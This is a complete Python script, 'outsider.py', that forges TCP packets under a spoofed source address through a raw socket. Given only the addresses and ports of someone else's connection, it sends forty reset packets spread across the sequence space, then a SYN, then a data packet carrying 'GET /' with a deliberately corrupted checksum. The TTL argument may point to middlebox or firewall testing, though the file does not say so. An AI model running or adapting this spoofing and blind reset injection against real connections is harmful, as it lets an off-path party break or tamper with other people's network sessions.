#!/usr/bin/env python3
"""outsider.py TTL SRC:PORT DST:PORT: sends packets in the name of SRC; it knows only addresses and
ports of the connection with DST: resets, a SYN, data with a wrong checksum. Needs the right to open
raw sockets."""
import socket
import struct
import sys

ttl = int(sys.argv[1])
(src, sport), (dst, dport) = (arg.rsplit(':', 1) for arg in sys.argv[2:4])
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16


def ones_sum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack(f'>{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total ^ 0xffff


def send(flags, seq, ack=0, data=b'', wrong=0):
    addrs = socket.inet_aton(src) + socket.inet_aton(dst)
    tcp = struct.pack('>HHIIBBHHH', int(sport), int(dport), seq, ack, 5 << 4, flags, 500, 0, 0) + data
    total = ones_sum(addrs + struct.pack('>HH', 6, len(tcp)) + tcp) ^ wrong
    ip = struct.pack('>BBHHHBBH', 0x45, 0, 20 + len(tcp), 0, 0, ttl, 6, 0) + addrs
    raw.sendto(ip + tcp[:16] + struct.pack('>H', total) + tcp[18:], (dst, 0))


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i in range(40):
    send(RST, i * 107374182 & 0xffffffff)
send(SYN, 12345)
send(PSH | ACK, 12345, 1, b'GET /', wrong=0x5a5a)
